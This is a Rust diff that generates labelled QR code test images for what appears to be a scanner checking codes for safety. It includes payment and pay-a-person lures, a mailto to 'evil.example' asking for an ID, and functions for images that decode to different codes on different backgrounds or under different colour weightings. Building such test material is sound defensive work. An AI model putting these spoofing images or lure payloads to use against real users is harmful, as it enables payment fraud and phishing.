+    ("alipay-payment-code", "payment-code", Segment::Numeric("281234567890123456"), "An Alipay payment code."),
+    ("unionpay-payment-code", "payment-code", Segment::Numeric("6200000000000000000"), "A UnionPay payment code."),
+    ("otp", "otp", Segment::Bytes(b"otpauth://totp/Example:nobody?secret=AAAAAAAAAAAAAAAA&issuer=Example"), "A secret for one-time passwords."),
+    ("pay-a-person", "pay-a-person", Segment::Bytes(PAYEE.as_bytes()), "Pays a person through WeChat."),
+    ("sms", "message", Segment::Bytes(b"smsto:10690000000000:YZM 000000"), "Sends a message, perhaps with a code in it."),
+    ("telephone", "message", Segment::Bytes(b"tel:+8610000000000"), "Dials a number."),
+    ("mail", "message", Segment::Bytes(b"mailto:nobody@evil.example?subject=ID"), "Sends a mail."),
+    ("wifi", "wifi", Segment::Bytes(b"WIFI:T:WPA;S:Example;P:00000000;;"), "Joins a wireless network."),
+    ("contact-vcard", "contact", Segment::Bytes("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:示例\r\nTEL:10000000000\r\nEND:VCARD\r\n".as_bytes()), "A contact card."),
+    ("contact-mecard", "contact", Segment::Bytes("MECARD:N:示例;TEL:10000000000;;".as_bytes()), "A contact card in the short form."),
+    ("invoice", "invoice", Segment::Bytes(b"01,10,000000000000,00000000,100.00,20260101,00000000000000000000,ABCD,"), "A VAT invoice."),
+];
+
+const PAYEE: &str = "wxp://f2f0EXAMPLEEXAMPLEEXAMPLE";
+
+fn not_a_link() -> Outcome {
+    let show = |name, kind, text, segment: &[Segment], trick| {
+        let picture = drawn(&encoded(segment, EcLevel::M, 1, None)?, MODULE_PX);
+        one("not-a-link", name, trick, other(kind, text), picture)
+    };
+    for &(name, kind, text, trick) in PUBLIC_PAYLOADS {
+        let segment = Segment::Bytes(text.as_bytes());
+        show(name, kind, Some(text), &[segment], trick)?;
+    }
+    for (name, kind, segment, trick) in PRIVATE_PAYLOADS {
+        show(name, kind, None, slice::from_ref(segment), trick)?;
+    }
+
+    let alipay = "HTTPS://QR.ALIPAY.COM/FKX00000EXAMPLE00000";
+    let merchant = merchant_payment();
+    let (goods, medicine) = ("6900000000000", "80000000000000000000");
+    let person = id_number("45000019000101001");
+    let neither = [0xFF, 0xFE, 0x80, 0xFF, 0x00, 0xC1, 0xFF];
+    #[rustfmt::skip]
+    let payloads = [
+        ("alipay", "alipay", Some(alipay), Segment::Alphanumeric(alipay), "Pays somebody through Alipay; in capitals, as Alipay writes it."),
+        ("merchant-payment", "merchant-payment", Some(merchant.as_str()), Segment::Alphanumeric(&merchant), "Pays a merchant (EMVCo)."),
+        ("goods-number", "code-number", Some(goods), Segment::Numeric(goods), "The number of an article (EAN-13)."),
+        ("drug-trace-code", "code-number", Some(medicine), Segment::Numeric(medicine), "The trace number on a box of medicine."),
+        ("id-number", "id-number", None, Segment::Numeric(&person), "A citizen's identity number."),
+        ("binary", "binary", None, Segment::Bytes(&neither), "Bytes that are neither UTF-8 nor GBK."),
+        ("empty", "empty", Some(""), Segment::Bytes(&[]), "A symbol that holds nothing."),
+    ];
+    for (name, kind, text, segment, trick) in payloads {
+        show(name, kind, text, &[segment], trick)?;
+    }
+
+    let official = drawn(&text_code(OFFICIAL, EcLevel::M)?, MODULE_PX);
+    let payee = drawn(&text_code(PAYEE, EcLevel::M)?, MODULE_PX);
+    let symbols = [link(OFFICIAL, &[]), other("pay-a-person", None)];
+    let reasons = ["pay-a-person"];
+    let trick = "The official code, and beside it one that pays a person.";
+    let pair = beside(&official, &payee);
+    save(
+        "not-a-link",
+        "official-beside-payee",
+        trick,
+        &reasons,
+        &symbols,
+        pair,
+    )
+}
+
+/// Merchant-presented QR code after EMVCo, with its CRC-16/CCITT-FALSE.
+fn merchant_payment() -> String {
+    let field = |id: &str, value: &str| format!("{id}{:02}{value}", value.len());
+    let mut text = String::new();
+    for (id, value) in [
+        ("00", "01"),
+        ("01", "11"),
+        ("15", "0000000000000000000000000000000"),
+        ("52", "5999"),
+        ("53", "156"),
+        ("58", "CN"),
+        ("59", "EXAMPLE"),
+        ("60", "NANNING"),
+    ] {
+        text += &field(id, value);
+    }
+    text += "6304";
+    let crc = text.bytes().fold(0xFFFF_u16, |crc, byte| {
+        (0..8).fold(crc ^ u16::from(byte) << 8, |crc, _| {
+            if crc & 0x8000 == 0 {
+                crc << 1
+            } else {
+                crc << 1 ^ 0x1021
+            }
+        })
+    });
+    text + &format!("{crc:04X}")
+}
+
+/// The 17 digits and their check digit after GB 11643 (ISO 7064 mod 11-2).
+fn id_number(digits: &str) -> String {
+    let sum = digits
+        .bytes()
+        .fold(0, |sum, digit| (sum + u32::from(digit - b'0')) * 2 % 11);
+    let check = (12 - sum) % 11;
+    assert!(
+        check < 10,
+        "the check digit is X, which the numeric mode does not have"
+    );
+    format!("{digits}{check}")
+}
+
+// ---- damaged: what cannot be read, and what is not there ------------------------------------------------------
+
+fn damaged() -> Outcome {
+    let official = text_code(OFFICIAL, EcLevel::M)?;
+    let sheet = drawn(&official, 8);
+    let side = sheet.width();
+
+    let mut ruined = text_code(EVIL, EcLevel::M)?;
+    let mut chance = Chance(41);
+    let width = ruined.width as i16;
+    for (at, module) in ruined.modules.iter_mut().enumerate() {
+        let (x, y) = (at as i16 % width, at as i16 / width);
+        if !is_functional(Version::Normal((width - 17) / 4), width, x, y) {
+            *module = [Color::Dark, Color::Light][chance.below(2) as usize];
+        }
+    }
+    let ruined = drawn(&ruined, MODULE_PX);
+    let pair = beside(&drawn(&official, MODULE_PX), &ruined);
+
+    // Spared: finders and format information up to pixel 104, the alignment pattern from 192 on, timing in row 80.
+    let mut blot = sheet.clone();
+    disc(&mut blot, (156, 156), 64, Luma([30]));
+    let mut scratched = drawn(&text_code(OFFICIAL, EcLevel::L)?, 8);
+    for (top, height) in [(112, 24), (152, 24)] {
+        fill(&mut scratched, (32, top, 64, height), PAPER);
+        fill(&mut scratched, (112, top, 152, height), PAPER);
+    }
+    let torn = GrayImage::from_fn(side, side, |x, y| {
+        let ragged_edge = 180 + y % 7;
+        if x + y < ragged_edge {
+            Luma([70])
+        } else {
+            sheet[(x, y)]
+        }
+    });
+    let half = imageops::crop_imm(&sheet, side / 2, 0, side / 2, side).to_image();
+
+    let unread = ["unread-code-in-view"];
+    let trick = "The official code beside one that cannot be read.";
+    let symbols = [link(OFFICIAL, &unread)];
+    save(
+        "damaged",
+        "official-beside-unreadable",
+        trick,
+        &unread,
+        &symbols,
+        pair,
+    )?;
+    #[rustfmt::skip]
+    let pictures = [
+        ("data-destroyed", "unread-code-in-view", ruined, "Finder, timing and format are fine, every data module is chance."),
+        ("ink-blot", "unread-code-in-view", blot, "A blot of ink larger than error correction can mend."),
+        ("scratched", "unread-code-in-view", scratched, "Stripes scratched out of the data."),
+        ("torn-corner", "no-code", torn, "The corner with the first finder is torn off."),
+        ("cut-in-half", "no-code", half, "Only the right half is in the picture."),
+        ("too-blurred", "no-code", blur(&sheet, 16.0), "Blurred until the finders are gone."),
+    ];
+    for (name, reason, picture, trick) in pictures {
+        save("damaged", name, trick, &[reason], &[], picture)?;
+    }
+    Ok(())
+}
+
+fn nothing_there() -> Outcome {
+    let blank = |side| GrayImage::from_pixel(side, side, PAPER);
+    let noise = noisy(&GrayImage::from_pixel(160, 160, Luma([128])), 120, 51);
+    let squares = GrayImage::from_fn(240, 240, |x, y| tone((x / 12 + y / 12) % 2 == 0));
+
+    let mut stripes = GrayImage::from_pixel(360, 160, PAPER);
+    let mut chance = Chance(53);
+    for left in (30..330).step_by(3) {
+        if chance.below(2) == 0 {
+            fill(&mut stripes, (left, 20, 3, 120), INK);
+        }
+    }
+
+    let mut finder = blank(200);
+    for (inset, ink) in [(65, INK), (75, PAPER), (85, INK)] {
+        let side = 200 - 2 * inset;
+        fill(&mut finder, (inset, inset, side, side), ink);
+    }
+
+    let mut dots = blank(240);
+    for (x, y) in (0..9).flat_map(|x| (0..9).map(move |y| (x, y))) {
+        disc(&mut dots, (40 + 20 * x, 40 + 20 * y), 7, INK);
+    }
+
+    // A WeChat mini-program code: rays of dots around an emblem, three round eyes.
+    let mut round = blank(360);
+    for (ray, ring) in (0..60).flat_map(|ray| (0..9).map(move |ring| (ray, ring))) {
+        let (sin, cos) = f64::from(ray * 6).to_radians().sin_cos();
+        let radius = f64::from(66 + 11 * ring);
+        if chance.below(2) == 0 {
+            let centre = ((180.0 + radius * cos) as i32, (180.0 + radius * sin) as i32);
+            disc(&mut round, centre, 3, INK);
+        }
+    }
+    disc(&mut round, (180, 180), 50, Luma([120]));
+    for eye in [(277, 277), (83, 277), (83, 83)] {
+        for (radius, ink) in [(34, PAPER), (20, INK), (13, PAPER), (8, INK)] {
+            disc(&mut round, eye, radius, ink);
+        }
+    }
+
+    #[rustfmt::skip]
+    let pictures = [
+        ("blank", blank(240), "White paper."),
+        ("noise", noise, "Grey noise."),
+        ("poster-without-code", poster(480, 360, 52), "A notice with text only."),
+        ("stripes", stripes, "Stripes like those of a barcode for goods."),
+        ("checkerboard", squares, "A checkerboard."),
+        ("lone-finder", finder, "One finder pattern by itself."),
+        ("round-dots", dots, "A field of round dots."),
+        ("round-code", round, "A round mini-program code, which is no QR symbol."),
+    ];
+    for (name, picture, trick) in pictures {
+        save("damaged", name, trick, &["no-code"], &[], picture)?;
+    }
+    Ok(())
+}
+
+// ---- symbols --------------------------------------------------------------------------------------------------
+
+/// The modules of a symbol, row by row.
+struct Code {
+    width: u32,
+    modules: Vec<Color>,
+}
+
+impl Code {
+    /// Pixels along one side, quiet zone included.
+    fn side(&self, module_px: u32) -> u32 {
+        (self.width + 2 * QUIET) * module_px
+    }
+
+    /// True if the pixel lies in a dark module.
+    fn dark(&self, module_px: u32, x: u32, y: u32) -> bool {
+        let inside = QUIET..QUIET + self.width;
+        let (x, y) = (x / module_px, y / module_px);
+        let at = |x, y| self.modules[((y - QUIET) * self.width + x - QUIET) as usize];
+        inside.contains(&x) && inside.contains(&y) && at(x, y) == Color::Dark
+    }
+}
+
+/// A piece of the bit stream, ISO/IEC 18004, 7.4.
+enum Segment<'a> {
+    Numeric(&'a str),
+    Alphanumeric(&'a str),
+    Bytes(&'a [u8]),
+    Eci(u8),
+    Fnc1,
+    Append { index: u8, count: u8, parity: u8 },
+}
+
+impl Segment<'_> {
+    /// The piece as a text of `0` and `1`. Lengths are counted in more bits from version 10 and again from 27.
+    fn bits(&self, version: i16) -> String {
+        let count = |bits: [usize; 3], length: usize| {
+            let width = bits[usize::from(version >= 10) + usize::from(version >= 27)];
+            format!("{length:0width$b}")
+        };
+        match self {
+            Segment::Numeric(digits) => {
+                let mut bits = format!("0001{}", count([10, 12, 14], digits.len()));
+                for group in digits.as_bytes().chunks(3) {
+                    let value = group
+                        .iter()
+                        .fold(0, |value, digit| value * 10 + u32::from(digit - b'0'));
+                    let width = group.len() * 3 + 1;
+                    bits += &format!("{value:0width$b}");
+                }
+                bits
+            }
+            Segment::Alphanumeric(text) => {
+                const CHARACTERS: &str = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:";
+                let values: Vec<usize> = text.chars().filter_map(|c| CHARACTERS.find(c)).collect();
+                assert_eq!(values.len(), text.len(), "not alphanumeric: {text}");
+                let mut bits = format!("0010{}", count([9, 11, 13], text.len()));
+                for pair in values.chunks(2) {
+                    bits += &match pair {
+                        [one, two] => format!("{:011b}", one * 45 + two),
+                        _ => format!("{:06b}", pair[0]),
+                    };
+                }
+                bits
+            }
+            Segment::Bytes(bytes) => {
+                let mut bits = format!("0100{}", count([8, 16, 16], bytes.len()));
+                for byte in *bytes {
+                    bits += &format!("{byte:08b}");
+                }
+                bits
+            }
+            Segment::Eci(number) => format!("0111{number:08b}"),
+            Segment::Fnc1 => "0101".to_owned(),
+            Segment::Append {
+                index,
+                count,
+                parity,
+            } => format!("0011{index:04b}{:04b}{parity:08b}", count - 1),
+        }
+    }
+}
+
+/// The smallest symbol from version `at_least` on that holds the segments; without a mask, the best one.
+fn encoded(
+    segments: &[Segment],
+    level: EcLevel,
+    at_least: i16,
+    mask: Option<MaskPattern>,
+) -> Result<Code, Box<dyn Error>> {
+    for number in at_least..=40 {
+        let version = Version::Normal(number);
+        let capacity = Bits::new(version).max_len(level)?;
+        let mut bits: String = segments
+            .iter()
+            .map(|segment| segment.bits(number))
+            .collect();
+        if bits.len() > capacity {
+            continue;
+        }
+        let terminator = (capacity - bits.len()).min(4);
+        bits += &"0".repeat(terminator);
+        bits += &"0".repeat((8 - bits.len() % 8) % 8);
+        let byte = |bits: &[u8]| bits.iter().fold(0, |sum, bit| sum * 2 + (bit - b'0'));
+        let mut bytes: Vec<u8> = bits.as_bytes().chunks(8).map(byte).collect();
+        let padding = [0xEC, 0x11]
+            .into_iter()
+            .cycle()
+            .take(capacity / 8 - bytes.len());
+        bytes.extend(padding);
+
+        let (data, correction) = construct_codewords(&bytes, version, level)?;
+        let mut canvas = Canvas::new(version, level);
+        canvas.draw_all_functional_patterns();
+        canvas.draw_data(&data, &correction);
+        match mask {
+            Some(mask) => canvas.apply_mask(mask),
+            None => canvas = canvas.apply_best_mask(),
+        }
+        return Ok(Code {
+            width: version.width() as u32,
+            modules: canvas.into_colors(),
+        });
+    }
+    Err("no version is large enough".into())
+}
+
+/// The text as one segment of bytes: what most generators make of a link.
+fn text_code(text: &str, level: EcLevel) -> Result<Code, Box<dyn Error>> {
+    encoded(&[Segment::Bytes(text.as_bytes())], level, 1, None)
+}
+
+/// Letters without a meaning, to fill a field.
+fn letters(count: usize) -> String {
+    let mut chance = Chance(7);
+    (0..count)
+        .map(|_| char::from(b'a' + chance.below(26) as u8))
+        .collect()
+}
+
+// ---- pictures -------------------------------------------------------------------------------------------------
+
+/// Ink for dark, paper for light.
+fn tone(dark: bool) -> Luma<u8> {
+    if dark { INK } else { PAPER }
+}
+
+/// The symbol in black on white.
+fn drawn(code: &Code, module_px: u32) -> GrayImage {
+    let side = code.side(module_px);
+    GrayImage::from_fn(side, side, |x, y| tone(code.dark(module_px, x, y)))
+}
+
+/// Two symbols in one: `first` where `of_first` says so of a pixel's place in its module, else `second`.
+fn mixed(
+    first: &Code,
+    second: &Code,
+    module_px: u32,
+    of_first: impl Fn(u32, u32) -> bool,
+) -> GrayImage {
+    let side = first.side(module_px);
+    GrayImage::from_fn(side, side, |x, y| {
+        let code = [second, first][usize::from(of_first(x % module_px, y % module_px))];
+        tone(code.dark(module_px, x, y))
+    })
+}
+
+/// Shows one symbol on white and the other on black.
+///
+/// A grey v with alpha a shows va on black and va + 1 - a on white. Dark and light are 0.6 and 1 on white, 0 and 0.5
+/// on black; the four pairs of them give the four pixels. Without alpha the picture is that on black.
+fn two_faced(on_white: &Code, on_black: &Code) -> RgbaImage {
+    let side = on_white.side(MODULE_PX);
+    RgbaImage::from_fn(side, side, |x, y| {
+        let dark = |code: &Code| code.dark(MODULE_PX, x, y);
+        let (grey, alpha) = match (dark(on_white), dark(on_black)) {
+            (true, true) => (0, 102),
+            (true, false) => (142, 230),
+            (false, true) => (0, 0),
+            (false, false) => (255, 128),
+        };
+        Rgba([grey, grey, grey, alpha])
+    })
+}
+
+/// Shows one symbol to who weighs colours after BT.601 and the other to who follows BT.709.
+///
+/// A threshold near 88 takes green for dark and magenta for light in the first weighing, the reverse in the second.
+fn four_inks(in_bt601: &Code, in_bt709: &Code) -> RgbImage {
+    let side = in_bt601.side(MODULE_PX);
+    RgbImage::from_fn(side, side, |x, y| {
+        let dark = |code: &Code| code.dark(MODULE_PX, x, y);
+        match (dark(in_bt601), dark(in_bt709)) {
+            // Beside each: its luma in BT.601 and in BT.709.
+            (true, true) => Rgb([52, 52, 52]),      // 52, 52
+            (true, false) => Rgb([0, 137, 0]),      // 80, 98
+            (false, true) => Rgb([255, 0, 255]),    // 105, 73
+            (false, false) => Rgb([122, 122, 122]), // 122, 122
+        }
+    })
+}
+
+/// White on black.
+fn negative(picture: &GrayImage) -> GrayImage {
+    let mut negative = picture.clone();
+    invert(&mut negative);
+    negative
+}
+
+/// Printed in another ink than black.
+fn inked(picture: &GrayImage, ink: Rgb<u8>) -> RgbImage {
+    RgbImage::from_fn(picture.width(), picture.height(), |x, y| {
+        if picture[(x, y)] == INK {
+            ink
+        } else {
+            Rgb([255, 255, 255])
+        }
+    })
+}
+
+/// Two pictures side by side on white.
+fn beside(left: &GrayImage, right: &GrayImage) -> GrayImage {
+    let height = left.height().max(right.height());
+    let mut both = GrayImage::from_pixel(left.width() + right.width() + 20, height, PAPER);
+    imageops::replace(&mut both, left, 0, i64::from(height - left.height()) / 2);
+    let (x, y) = (left.width() + 20, (height - right.height()) / 2);
+    imageops::replace(&mut both, right, i64::from(x), i64::from(y));
+    both
+}
+
+/// A filled rectangle: left, top, width, height.
+fn fill(picture: &mut GrayImage, (x, y, width, height): (u32, u32, u32, u32), grey: Luma<u8>) {
+    let block = GrayImage::from_pixel(width, height, grey);
+    imageops::replace(picture, &block, i64::from(x), i64::from(y));
+}
+
+/// A filled circle; what lies outside the picture is left out.
+fn disc(picture: &mut GrayImage, (x, y): (i32, i32), radius: i32, grey: Luma<u8>) {
+    for (dx, dy) in (-radius..=radius).flat_map(|dx| (-radius..=radius).map(move |dy| (dx, dy))) {
+        let inside = dx * dx + dy * dy <= radius * radius;
+        if let (true, Ok(x), Ok(y)) = (inside, u32::try_from(x + dx), u32::try_from(y + dy))
+            && let Some(pixel) = picture.get_pixel_mut_checked(x, y)
+        {
+            *pixel = grey;
+        }
+    }
+}
+
+/// A notice on pale paper: a dark heading and lines of blocks of strokes that pass for Chinese characters.
+fn poster(width: u32, height: u32, seed: u64) -> GrayImage {
+    const CELL: u32 = 18;
+    let mut chance = Chance(seed);
+    let mut picture = GrayImage::from_pixel(width, height, Luma([232]));
+    fill(&mut picture, (0, 0, width, height / 9), Luma([70]));
+    for top in (height / 9 + CELL..height - CELL).step_by(CELL as usize + 8) {
+        let end = width - CELL - chance.below(u64::from(width) / 3) as u32;
+        for left in (CELL..end).step_by(CELL as usize) {
+            for _ in 0..5 {
+                let (x, y) = (chance.below(13) as u32, chance.below(13) as u32);
+                let across = chance.below(2) == 0;
+                let length = 3 + chance.below(11) as u32;
+                for step in 0..length * 2 {
+                    let (dx, dy) = if across {
+                        (step / 2, step % 2)
+                    } else {
+                        (step % 2, step / 2)
+                    };
+                    if x + dx < 15 && y + dy < 15 {
+                        picture.put_pixel(left + x + dx, top + y + dy, Luma([45]));
+                    }
+                }
+            }
+        }
+    }
+    picture
+}
+
+/// The corners of a square, turned around its centre.
+fn turned((x, y): (f64, f64), side: f64, degrees: f64) -> [(f64, f64); 4] {
+    let (sin, cos) = degrees.to_radians().sin_cos();
+    let (a, b) = (side / 2.0 * cos, side / 2.0 * sin);
+    [
+        (x - a + b, y - b - a),
+        (x + a + b, y + b - a),
+        (x + a - b, y + b + a),
+        (x - a - b, y - b + a),
+    ]
+}
+
+/// Lays the picture onto the other one so that its corners (clockwise from the upper left) come to lie as given.
+///
+/// The mapping from the unit square is Heckbert's (Fundamentals of Texture Mapping, 1989, 2.2.3); its adjugate maps
+/// back. Each pixel is the mean of 16 points.
+fn place(picture: &GrayImage, onto: &mut GrayImage, corners: [(f64, f64); 4]) {
+    let [(x0, y0), (x1, y1), (x2, y2), (x3, y3)] = corners;
+    let (dx1, dx2, dx3) = (x1 - x2, x3 - x2, x0 - x1 + x2 - x3);
+    let (dy1, dy2, dy3) = (y1 - y2, y3 - y2, y0 - y1 + y2 - y3);
+    let area = dx1 * dy2 - dx2 * dy1;
+    let g = (dx3 * dy2 - dx2 * dy3) / area;
+    let h = (dx1 * dy3 - dx3 * dy1) / area;
+    let (a, b, c) = (x1 - x0 + g * x1, x3 - x0 + h * x3, x0);
+    let (d, e, f) = (y1 - y0 + g * y1, y3 - y0 + h * y3, y0);
+    let source = |x: f64, y: f64| {
+        let w = (d * h - e * g) * x + (b * g - a * h) * y + a * e - b * d;
+        let u = ((e - f * h) * x + (c * h - b) * y + b * f - c * e) / w;
+        let v = ((f * g - d) * x + (a - c * g) * y + c * d - a * f) / w;
+        if !(0.0..1.0).contains(&u) || !(0.0..1.0).contains(&v) {
+            return None;
+        }
+        let x = u * f64::from(picture.width());
+        let y = v * f64::from(picture.height());
+        Some(picture[(x as u32, y as u32)].0[0])
+    };
+    for (x, y, Luma([grey])) in onto.enumerate_pixels_mut() {
+        let mut sum = 0;
+        for point in 0..16 {
+            let (x4, y4) = (4 * x + point % 4, 4 * y + point / 4);
+            let sample = source(f64::from(x4) / 4.0 + 0.125, f64::from(y4) / 4.0 + 0.125);
+            sum += u32::from(sample.unwrap_or(*grey));
+        }
+        *grey = (sum / 16) as u8;
+    }
+}
+
+/// Multiplies each pixel by the light that falls on it; places are given from 0 to 1.
+fn shade(picture: &mut GrayImage, light: impl Fn(f64, f64) -> f64) {
+    let (width, height) = picture.dimensions();
+    for (x, y, Luma([grey])) in picture.enumerate_pixels_mut() {
+        let x = f64::from(x) / f64::from(width);
+        let y = f64::from(y) / f64::from(height);
+        *grey = (f64::from(*grey) * light(x, y)) as u8;
+    }
+}
+
+/// Adds noise of at most `amount` grey levels, small amounts more often than large ones.
+fn noisy(picture: &GrayImage, amount: u64, seed: u64) -> GrayImage {
+    let mut chance = Chance(seed);
+    let mut picture = picture.clone();
+    for Luma([grey]) in picture.pixels_mut() {
+        let change = chance.below(amount + 1) as i32 - chance.below(amount + 1) as i32;
+        *grey = (i32::from(*grey) + change).clamp(0, 255) as u8;
+    }
+    picture
+}
+
+/// SplitMix64 (Steele, Lea and Flood, 2014): chance that is the same on every run.
+struct Chance(u64);
+
+impl Chance {
+    /// A number from 0 up to, not including, `end`.
+    fn below(&mut self, end: u64) -> u64 {
+        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+        (z ^ (z >> 31)) % end
+    }
+}
+
+// ---- files ----------------------------------------------------------------------------------------------------
+
+/// What must be said of one symbol: safe without reasons. No text where it is private, not UTF-8, or one of several.
+struct Symbol {
+    kind: &'static str,
+    text: Option<String>,
+    reasons: Vec<&'static str>,
+}
+
+fn link(text: &str, reasons: &[&'static str]) -> Symbol {
+    Symbol {
+        kind: "link",
+        text: Some(text.to_owned()),
+        reasons: reasons.to_vec(),
+    }
+}
+
+/// A payload that is no link; its kind is the reason.
+fn other(kind: &'static str, text: Option<&str>) -> Symbol {
+    Symbol {
+        kind,
+        text: text.map(str::to_owned),
+        reasons: vec![kind],
+    }
+}
+
+/// Two links at one place; which of them is shown does not matter.
+fn ambiguous() -> Symbol {
+    Symbol {
+        kind: "link",
+        text: None,
+        reasons: vec!["ambiguous"],
+    }
+}
+
+/// Writes a picture with one symbol, whose reasons are the picture's.
+fn one(
+    folder: &str,
+    name: &str,
+    trick: &str,
+    symbol: Symbol,
+    picture: impl Into<DynamicImage>,
+) -> Outcome {
+    let reasons = symbol.reasons.clone();
+    save(folder, name, trick, &reasons, &[symbol], picture)
+}
+
+/// Writes a picture and its sidecar. A name without an extension becomes a PNG.
+fn save(
+    folder: &str,
+    name: &str,
+    trick: &str,
+    reasons: &[&str],
+    symbols: &[Symbol],
+    picture: impl Into<DynamicImage>,
+) -> Outcome {
+    let (stem, extension) = name.split_once('.').unwrap_or((name, "png"));
+    write_sidecar(folder, stem, trick, reasons, symbols)?;
+    let path = format!("{folder}/{stem}.{extension}");
+    let picture = picture.into();
+    match extension {
+        "jpg" => picture.write_with_encoder(JpegEncoder::new_with_quality(create(&path)?, 85))?,
+        "png" => picture.write_with_encoder(PngEncoder::new_with_quality(
+            create(&path)?,
+            CompressionType::Best,
+            FilterType::NoFilter, // smallest for few colours
+        ))?,
+        _ => picture.save(in_samples(&path))?,
+    }
+    Ok(())
+}
+
+fn write_gif(path: &str, frames: &[&GrayImage]) -> Outcome {
+    let mut encoder = GifEncoder::new(create(path)?);
+    for &frame in frames {
+        encoder.encode_frame(Frame::new(DynamicImage::from(frame.clone()).into_rgba8()))?;
+    }
+    Ok(())
+}
+
+fn write_sidecar(
+    folder: &str,
+    name: &str,
+    trick: &str,
+    reasons: &[&str],
+    symbols: &[Symbol],
+) -> Outcome {
+    let mut text = format!("trick = {}\n", quoted(trick));
+    text += &verdict_lines(reasons);
+    for symbol in symbols {
+        text += &format!("\n[[symbol]]\nkind = {}\n", quoted(symbol.kind));
+        if let Some(payload) = &symbol.text {
+            text += &format!("text = {}\n", quoted(payload));
+        }
+        text += &verdict_lines(&symbol.reasons);
+    }
+    fs::create_dir_all(in_samples(folder))?;
+    fs::write(in_samples(&format!("{folder}/{name}.toml")), text)?;
+    Ok(())
+}
+
+fn verdict_lines(reasons: &[&str]) -> String {
+    let verdict = match reasons {
+        [] => "safe",
+        ["no-code"] => "no-code",
+        _ => "unsafe",
+    };
+    let reasons: Vec<String> = reasons.iter().map(|reason| quoted(reason)).collect();
+    format!(
+        "verdict = {}\nreasons = [{}]\n",
+        quoted(verdict),
+        reasons.join(", ")
+    )
+}
+
+/// A TOML string in which nothing is invisible.
+fn quoted(text: &str) -> String {
+    let escaped: String = text
+        .chars()
+        .map(|c| match c {
+            '"' | '\\' => format!("\\{c}"),
+            '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{3000}' | '\u{FEFF}' => {
+                format!("\\u{:04X}", c as u32)
+            }
+            _ if c.is_control() => format!("\\u{:04X}", c as u32),
+            _ => c.to_string(),
+        })
+        .collect();
+    format!("\"{escaped}\"")
+}
+
+fn create(path: &str) -> Result<BufWriter<File>, Box<dyn Error>> {
+    Ok(BufWriter::new(File::create(in_samples(path))?))
+}
+
+fn in_samples(path: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("samples")
+        .join(path)
+}
